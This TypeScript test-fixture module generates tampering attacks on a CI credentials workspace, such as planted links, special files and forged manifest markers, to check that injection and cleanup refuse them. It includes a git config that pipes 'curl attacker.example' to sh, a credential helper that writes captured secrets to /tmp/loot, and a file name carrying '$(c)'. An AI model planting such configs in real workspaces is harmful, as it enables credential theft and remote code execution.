/**
 * Generated attacks on a credentials workspace, shared by the unit tests,
 * the step-program tests and the chroot tests of the real image. Each case
 * plants something the way a task that shares the workspace could (running
 * as the step user), either into an empty workspace or on top of a genuine
 * injection: entries of every kind in every place, changes to our own
 * files, and forged markers. Outside the workspace, on the same file
 * system, a folder of sentinels must never change whatever happens.
 *
 * Every case must be refused by an injection without a digest
 * (CREDENTIALS_WORKSPACE_NOT_EMPTY) and by a re-injection that presents the
 * genuine injection's digest (CREDENTIALS_WORKSPACE_TAMPERED); cleanup must
 * then leave the workspace empty, touching nothing outside, and exit 1 only
 * when the marker it finds is invalid or expired.
 */
import { createHash } from 'node:crypto';
import { chmod, lchown, link, lstat, mkdir, readdir, readFile, readlink, rm, symlink, unlink, writeFile } from 'node:fs/promises';
import net from 'node:net';
import { dirname, join } from 'node:path';
import { execa } from 'execa';

export interface PlantContext {
  /** The credentials workspace, as the test sees it. */
  readonly creds: string;
  /** A folder outside the workspace on the same file system, as the test sees it. */
  readonly outside: string;
  /** The same folder as the program under test sees it (different under chroot): what planted links point to. */
  readonly outsideSeen: string;
  /** The planter: a task running as this user. */
  readonly uid: number;
  readonly gid: number;
  /** An owner that is neither the planter nor the step. */
  readonly foreignUid: number;
}

/** What cleanup finds in the marker once the case is planted. */
export type MarkerAfter = 'valid' | 'invalid' | 'expired' | 'none';

export interface PlantedCase {
  readonly name: string;
  /** For an entry planted in each of several places: which place (0, 1, 2) and which kind of entry (0, 1, ...). */
  readonly placement?: { readonly location: number; readonly variant: number };
  /** Changes an injection's own entries, so it only applies on top of one. */
  readonly needsGenuine: boolean;
  /** On top of a genuine injection; in an empty workspace the marker is 'none' unless the case forges one. */
  readonly markerAfter: MarkerAfter;
  readonly markerAfterFresh: MarkerAfter;
  plant(ctx: PlantContext): Promise<void>;
}

/** Where the genuine injection of the tests writes; planted entries go beside and inside it. */
export const GENUINE_FILE = 'docker/config.json';
const MANIFEST = '.inject-credentials/manifest.json';

const PLANTED_TEXT = '#!/bin/sh\n# planted\nexit 0\n';

async function own(ctx: PlantContext, path: string | Buffer, uid = ctx.uid): Promise<void> {
  await lchown(path, uid, ctx.gid);
}

/** Creates the missing folders of a relative path (0700, owned by the planter). */
async function parents(ctx: PlantContext, relative: string): Promise<void> {
  const segments = relative.split('/').slice(0, -1);
  for (let i = 1; i <= segments.length; i++) {
    const dir = join(ctx.creds, ...segments.slice(0, i));
    const existing = await lstat(dir).catch(() => undefined);
    if (existing) continue;
    await mkdir(dir, { mode: 0o700 });
    await own(ctx, dir);
  }
}

type Maker = (ctx: PlantContext, path: string | Buffer) => Promise<void>;

const file =
  (content: string, mode: number): Maker =>
  async (ctx, path) => {
    await writeFile(path, content, { mode });
    await own(ctx, path);
    await chmod(path, mode); // after chown, which drops setuid
  };

/** A unix socket that outlives its server: Node unlinks the path on close, so a hard link keeps the inode. */
async function socketAt(path: string | Buffer): Promise<void> {
  const temporary = `${dirname(path.toString())}/.socket-${process.pid}-${Date.now()}`;
  const server = net.createServer();
  await new Promise<void>((resolve, reject) => server.listen(temporary, resolve).once('error', reject));
  await link(temporary, path);
  await new Promise<void>((resolve) => server.close(() => resolve()));
}

const KINDS: Record<string, Maker> = {
  'a file': file('planted\n', 0o644),
  'an executable (a git hook)': file(PLANTED_TEXT, 0o755),
  'a setuid executable': file(PLANTED_TEXT, 0o4755),
  'an empty file': file('', 0o600),
  'an empty folder': async (ctx, path) => {
    await mkdir(path, { mode: 0o700 });
    await own(ctx, path);
  },
  'a folder holding a file': async (ctx, path) => {
    await mkdir(path, { mode: 0o755 });
    await own(ctx, path);
    await file('planted\n', 0o644)(ctx, join(path.toString(), 'inner'));
  },
  'a folder the step cannot list (0000) holding a file': async (ctx, path) => {
    await mkdir(path, { mode: 0o700 });
    await own(ctx, path);
    await file('planted\n', 0o644)(ctx, join(path.toString(), 'inner'));
    await chmod(path, 0);
  },
  'a link to a file outside': async (ctx, path) => {
    await symlink(join(ctx.outsideSeen, 'precious'), path);
    await own(ctx, path);
  },
  'a link to a folder outside': async (ctx, path) => {
    await symlink(join(ctx.outsideSeen, 'dir'), path);
    await own(ctx, path);
  },
  'a dangling link': async (ctx, path) => {
    await symlink('/nonexistent/credentials', path);
    await own(ctx, path);
  },
  'a link to its own folder': async (ctx, path) => {
    await symlink('.', path);
    await own(ctx, path);
  },
  'a hard link to a file outside': async (ctx, path) => {
    await link(join(ctx.outside, 'precious'), path);
  },
  'a FIFO': async (ctx, path) => {
    await execa('mkfifo', ['-m', '0600', path.toString()]);
    await own(ctx, path);
  },
  'a unix socket': async (ctx, path) => {
    await socketAt(path);
    await own(ctx, path);
  },
  'a character device': async (ctx, path) => {
    await execa('mknod', ['-m', '0666', path.toString(), 'c', '1', '3']);
    await own(ctx, path);
  },
};

const NAMES: Record<string, (folder: string) => string | Buffer> = {
  'named with bytes that are not UTF-8': (folder) => Buffer.concat([Buffer.from(folder === '' ? '' : `${folder}/`), Buffer.from([0x70, 0xff, 0xfe, 0x0a])]),
  'named with a newline, quotes and a dollar': (folder) => join(folder, 'a\n"b\'$(c)'),
  'with a 255-byte name': (folder) => join(folder, 'n'.repeat(255)),
};

const LOCATIONS: Record<string, string> = {
  'at the root': '',
  'in the output folder': 'docker',
  'in the marker folder': '.inject-credentials',
};

function within(ctx: PlantContext, relative: string | Buffer): string | Buffer {
  return typeof relative === 'string' ? join(ctx.creds, relative) : Buffer.concat([Buffer.from(`${ctx.creds}/`), relative]);
}

const sha256 = (bytes: Buffer | string) => createHash('sha256').update(bytes).digest('hex');

async function readMarker(ctx: PlantContext): Promise<{ files: { path: string; sha256: string }[]; secrets: unknown[]; expiresAt: string } | undefined> {
  const text = await readFile(join(ctx.creds, MANIFEST), 'utf8').catch(() => undefined);
  return text === undefined ? undefined : JSON.parse(text);
}

/** Replaces the marker (as a task that shares the workspace would: new file, the step user's, 0400). */
async function forgeMarker(ctx: PlantContext, content: string | Buffer): Promise<void> {
  await parents(ctx, MANIFEST);
  await rm(join(ctx.creds, MANIFEST), { force: true, recursive: true });
  await writeFile(join(ctx.creds, MANIFEST), content, { mode: 0o400 });
  await own(ctx, join(ctx.creds, MANIFEST));
}

/** A marker in the real schema that lists the genuine files (if any) plus `extra`. */
async function markerJson(ctx: PlantContext, extra: { path: string; sha256: string }[], expiresAt?: Date): Promise<string> {
  const genuine = await readMarker(ctx);
  const now = new Date();
  return `${JSON.stringify(
    {
      version: 1,
      writtenAt: now.toISOString(),
      expiresAt: (expiresAt ?? new Date(now.getTime() + 3600_000)).toISOString(),
      secrets: genuine?.secrets ?? [{ label: 'secret registry-push-creds', type: 'kubernetes.io/dockerconfigjson', source: 'workspace' }],
      files: [...(genuine?.files ?? []), ...extra],
    },
    null,
    2,
  )}\n`;
}

function kindCases(): PlantedCase[] {
  const cases: PlantedCase[] = [];
  for (const [location, [where, folder]] of Object.entries(LOCATIONS).entries()) {
    const base = { needsGenuine: false, markerAfter: 'valid' as const, markerAfterFresh: 'none' as const };
    for (const [variant, [kind, make]] of Object.entries(KINDS).entries()) {
      cases.push({
        ...base,
        placement: { location, variant },
        name: `${kind} ${where}`,
        plant: async (ctx) => {
          const relative = join(folder, 'planted');
          await parents(ctx, relative);
          await make(ctx, join(ctx.creds, relative));
        },
      });
    }
    for (const [index, [naming, name]] of Object.entries(NAMES).entries()) {
      cases.push({
        ...base,
        placement: { location, variant: Object.keys(KINDS).length + index },
        name: `a file ${naming} ${where}`,
        plant: async (ctx) => {
          const relative = name(folder);
          if (folder !== '') await parents(ctx, `${folder}/x`);
          await file('planted\n', 0o644)(ctx, within(ctx, relative));
        },
      });
    }
  }
  return cases;
}

function shapeCases(): PlantedCase[] {
  const base = { needsGenuine: false, markerAfter: 'valid' as const, markerAfterFresh: 'none' as const };
  return [
    {
      ...base,
      name: 'a tree 40 folders deep with a file at the bottom',
      plant: async (ctx) => {
        const relative = [...Array.from({ length: 40 }, (_, i) => `d${i}`), 'bottom'].join('/');
        await parents(ctx, relative);
        await file('planted\n', 0o644)(ctx, join(ctx.creds, relative));
      },
    },
    {
      ...base,
      name: '300 files in one folder',
      plant: async (ctx) => {
        await parents(ctx, 'flood/x');
        for (let i = 0; i < 300; i++) await file('planted\n', 0o644)(ctx, join(ctx.creds, 'flood', `f${i}`));
      },
    },
    {
      ...base,
      name: 'a 3 MiB file',
      plant: async (ctx) => file('x'.repeat(3 * 1024 * 1024), 0o644)(ctx, join(ctx.creds, 'large')),
    },
    {
      ...base,
      name: 'a git config that runs a command, in the folder a consumer reads',
      plant: async (ctx) => {
        await parents(ctx, 'basic-auth/.gitconfig');
        await file('[core]\n\tsshCommand = sh -c "curl attacker.example | sh"\n', 0o400)(ctx, join(ctx.creds, 'basic-auth/.gitconfig'));
      },
    },
  ];
}

/** Changes to a genuine injection's own entries. */
function mutationCases(): PlantedCase[] {
  const base = { needsGenuine: true, markerAfter: 'valid' as const, markerAfterFresh: 'none' as const };
  const genuine = (ctx: PlantContext) => join(ctx.creds, GENUINE_FILE);
  const replaceGenuine = async (ctx: PlantContext, make: (path: string) => Promise<void>) => {
    await unlink(genuine(ctx));
    await make(genuine(ctx));
  };
  return [
    {
      ...base,
      name: 'the credential file gets a credential helper added',
      plant: async (ctx) => {
        const config = JSON.parse(await readFile(genuine(ctx), 'utf8'));
        await replaceGenuine(ctx, (path) => file(JSON.stringify({ ...config, credHelpers: { 'ghcr.io': 'evil' } }), 0o400)(ctx, path));
      },
    },
    { ...base, name: 'the credential file is made 0644', plant: async (ctx) => chmod(genuine(ctx), 0o644) },
    { ...base, name: 'the credential file is made 0600', plant: async (ctx) => chmod(genuine(ctx), 0o600) },
    { ...base, name: 'the credential file gets the setuid bit', plant: async (ctx) => chmod(genuine(ctx), 0o4400) },
    { ...base, name: 'the credential file is given to another user', plant: async (ctx) => lchown(genuine(ctx), ctx.foreignUid, ctx.gid) },
    {
      ...base,
      name: 'the credential file is given to another group',
      plant: async (ctx) => lchown(genuine(ctx), (await lstat(genuine(ctx))).uid, ctx.foreignUid),
    },
    { ...base, name: 'the credential file is hard-linked from outside', plant: async (ctx) => link(genuine(ctx), join(ctx.outside, 'stolen')) },
    {
      ...base,
      name: 'the credential file is replaced by a link to an identical copy outside',
      plant: async (ctx) => {
        await writeFile(join(ctx.outside, 'copy'), await readFile(genuine(ctx)), { mode: 0o400 });
        await replaceGenuine(ctx, async (path) => {
          await symlink(join(ctx.outsideSeen, 'copy'), path);
          await own(ctx, path);
        });
      },
    },
    {
      ...base,
      name: 'the credential file is replaced by a FIFO',
      plant: async (ctx) => replaceGenuine(ctx, async (path) => KINDS['a FIFO']!(ctx, path)),
    },
    { ...base, name: 'the credential file is removed', plant: async (ctx) => unlink(genuine(ctx)) },
    { ...base, name: 'the output folder is made 0755', plant: async (ctx) => chmod(join(ctx.creds, 'docker'), 0o755) },
    {
      ...base,
      name: 'the output folder is replaced by a link to a copy outside',
      plant: async (ctx) => {
        await mkdir(join(ctx.outside, 'docker-copy'));
        await writeFile(join(ctx.outside, 'docker-copy', 'config.json'), await readFile(genuine(ctx)), { mode: 0o400 });
        await rm(join(ctx.creds, 'docker'), { recursive: true, force: true });
        await symlink(join(ctx.outsideSeen, 'docker-copy'), join(ctx.creds, 'docker'));
        await own(ctx, join(ctx.creds, 'docker'));
      },
    },
    { ...base, name: 'the marker folder is made 0755', plant: async (ctx) => chmod(join(ctx.creds, '.inject-credentials'), 0o755) },
    {
      ...base,
      name: 'expires-at is rewritten to a later time',
      plant: async (ctx) => {
        const path = join(ctx.creds, '.inject-credentials/expires-at');
        await unlink(path);
        await file('2999-01-01T00:00:00.000Z\n', 0o400)(ctx, path);
      },
    },
  ];
}

/** Forged markers, on top of a genuine injection or alone in an empty workspace. */
function forgeryCases(): PlantedCase[] {
  const valid = { needsGenuine: false, markerAfter: 'valid' as const, markerAfterFresh: 'valid' as const };
  const invalid = { needsGenuine: false, markerAfter: 'invalid' as const, markerAfterFresh: 'invalid' as const };
  return [
    {
      ...valid,
      name: 'a planted git config that the marker lists with its true fingerprint (the reported attack)',
      plant: async (ctx) => {
        const content = '[credential]\n\thelper = "!f() { cat >> /tmp/loot; }; f"\n';
        await parents(ctx, 'basic-auth/.gitconfig');
        await file(content, 0o400)(ctx, join(ctx.creds, 'basic-auth/.gitconfig'));
        await forgeMarker(ctx, await markerJson(ctx, [{ path: 'basic-auth/.gitconfig', sha256: sha256(content) }]));
      },
    },
    {
      ...valid,
      name: 'a marker that lists a file that is not there',
      plant: async (ctx) => forgeMarker(ctx, await markerJson(ctx, [{ path: 'files/never-written', sha256: sha256('x') }])),
    },
    {
      ...valid,
      name: 'a marker with a wrong fingerprint',
      plant: async (ctx) => {
        const json = JSON.parse(await markerJson(ctx, [{ path: 'files/token', sha256: sha256('claimed') }]));
        await parents(ctx, 'files/token');
        await file('actual\n', 0o400)(ctx, join(ctx.creds, 'files/token'));
        await forgeMarker(ctx, JSON.stringify(json));
      },
    },
    {
      ...valid,
      name: 'a marker that pushes the expiry out',
      plant: async (ctx) => forgeMarker(ctx, await markerJson(ctx, [], new Date(Date.now() + 23 * 3600_000))),
    },
    {
      ...valid,
      name: 'the marker rewritten byte for byte, but 0644',
      plant: async (ctx) => {
        const bytes = await readFile(join(ctx.creds, MANIFEST)).catch(async () => Buffer.from(await markerJson(ctx, [])));
        await forgeMarker(ctx, bytes);
        await chmod(join(ctx.creds, MANIFEST), 0o644);
      },
    },
    {
      ...valid,
      markerAfter: 'expired',
      markerAfterFresh: 'expired',
      name: 'a marker that says the credentials expired',
      plant: async (ctx) => forgeMarker(ctx, await markerJson(ctx, [], new Date(Date.now() - 60_000))),
    },
    {
      ...invalid,
      name: 'a marker that lists a path outside the workspace',
      plant: async (ctx) => forgeMarker(ctx, await markerJson(ctx, [{ path: '../outside/precious', sha256: sha256('keep me\n') }])),
    },
    {
      ...invalid,
      name: 'a marker that lists an absolute path',
      plant: async (ctx) => forgeMarker(ctx, await markerJson(ctx, [{ path: '/etc/passwd', sha256: sha256('x') }])),
    },
    {
      ...invalid,
      name: 'a marker larger than 64 KiB',
      plant: async (ctx) => {
        const json = JSON.parse(await markerJson(ctx, []));
        await forgeMarker(ctx, JSON.stringify({ ...json, padding: 'x'.repeat(70 * 1024) }));
      },
    },
    { ...invalid, name: 'a marker that is not JSON', plant: async (ctx) => forgeMarker(ctx, '{"version": 1, "files": [') },
    { ...invalid, name: 'a marker of JSON nested 30000 deep', plant: async (ctx) => forgeMarker(ctx, `${'['.repeat(30000)}${']'.repeat(30000)}`) },
    {
      ...invalid,
      name: 'a marker that is not UTF-8',
      plant: async (ctx) => forgeMarker(ctx, Buffer.concat([Buffer.from('{"version":1,"label":"'), Buffer.from([0xff, 0xfe]), Buffer.from('"}')])),
    },
    { ...invalid, name: 'a marker with extra fields', plant: async (ctx) => forgeMarker(ctx, JSON.stringify({ ...JSON.parse(await markerJson(ctx, [])), trusted: true })) },
    {
      ...invalid,
      name: 'a marker that is a link to a forged one outside',
      plant: async (ctx) => {
        await writeFile(join(ctx.outside, 'forged.json'), await markerJson(ctx, []));
        await parents(ctx, MANIFEST);
        await rm(join(ctx.creds, MANIFEST), { force: true });
        await symlink(join(ctx.outsideSeen, 'forged.json'), join(ctx.creds, MANIFEST));
        await own(ctx, join(ctx.creds, MANIFEST));
      },
    },
    {
      ...invalid,
      name: 'a marker that is a FIFO',
      plant: async (ctx) => {
        await parents(ctx, MANIFEST);
        await rm(join(ctx.creds, MANIFEST), { force: true });
        await KINDS['a FIFO']!(ctx, join(ctx.creds, MANIFEST));
      },
    },
    {
      ...invalid,
      name: 'a marker that is a folder',
      plant: async (ctx) => {
        await parents(ctx, MANIFEST);
        await rm(join(ctx.creds, MANIFEST), { force: true });
        await KINDS['an empty folder']!(ctx, join(ctx.creds, MANIFEST));
      },
    },
    {
      ...invalid,
      name: 'the marker folder is a link to a forged one outside',
      plant: async (ctx) => {
        await mkdir(join(ctx.outside, 'state'));
        await writeFile(join(ctx.outside, 'state', 'manifest.json'), await markerJson(ctx, []));
        await rm(join(ctx.creds, '.inject-credentials'), { recursive: true, force: true });
        await symlink(join(ctx.outsideSeen, 'state'), join(ctx.creds, '.inject-credentials'));
        await own(ctx, join(ctx.creds, '.inject-credentials'));
      },
    },
    {
      needsGenuine: true,
      markerAfter: 'none',
      markerAfterFresh: 'none',
      name: 'the marker is removed',
      plant: async (ctx) => unlink(join(ctx.creds, MANIFEST)),
    },
  ];
}

export function plantedCases(): PlantedCase[] {
  return [...kindCases(), ...shapeCases(), ...mutationCases(), ...forgeryCases()];
}

/**
 * The cases for tests that start a process per run (the step program, the
 * real image under chroot): every kind of entry and name in one of the three
 * places, rotated by `rotation` so that the two suites put each kind in
 * different places, and every other case. The in-process test runs them all.
 */
export function rotatedCases(rotation: number): PlantedCase[] {
  return plantedCases().filter(
    (plantedCase) => !plantedCase.placement || plantedCase.placement.location === (plantedCase.placement.variant + rotation) % Object.keys(LOCATIONS).length,
  );
}

/**
 * Creates the sentinels outside the workspace, owned by `owner`: the step
 * user in the step and chroot tests, so only the link count (a planted hard
 * link) can keep cleanup from writing through to them.
 */
export async function prepareOutside(outside: string, owner: number): Promise<void> {
  await mkdir(join(outside, 'dir'), { recursive: true });
  await writeFile(join(outside, 'precious'), 'keep me\n', { mode: 0o644 });
  await writeFile(join(outside, 'dir', 'inner'), 'keep me too\n', { mode: 0o644 });
  for (const path of ['', 'dir', 'precious', 'dir/inner']) await lchown(join(outside, path), owner, owner);
}

/** Everything outside, with content and mode, to compare before and after a run. */
export async function snapshotOutside(outside: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const walk = async (relative: string): Promise<void> => {
    for (const name of await readdir(join(outside, relative))) {
      const path = relative ? `${relative}/${name}` : name;
      const info = await lstat(join(outside, path));
      const mode = (info.mode & 0o7777).toString(8);
      if (info.isDirectory()) {
        out[path] = `dir ${mode}`;
        await walk(path);
      } else if (info.isSymbolicLink()) {
        out[path] = `link ${await readlink(join(outside, path))}`;
      } else {
        out[path] = `file ${mode} ${sha256(await readFile(join(outside, path)))}`;
      }
    }
  };
  await walk('');
  return out;
}

/** Whatever is left in a folder, without following links (for assertions and diagnostics). */
export async function listTree(dir: string): Promise<string[]> {
  const out: string[] = [];
  const walk = async (relative: string): Promise<void> => {
    const entries = await readdir(join(dir, relative), { encoding: 'buffer' }).catch(() => [] as Buffer[]);
    for (const raw of entries) {
      const name = raw.toString('latin1');
      const path = relative ? `${relative}/${name}` : name;
      out.push(path);
      const info = await lstat(Buffer.concat([Buffer.from(`${dir}/${relative ? `${relative}/` : ''}`), raw])).catch(() => undefined);
      if (info?.isDirectory()) await walk(path);
    }
  };
  await walk('');
  return out.sort();
}
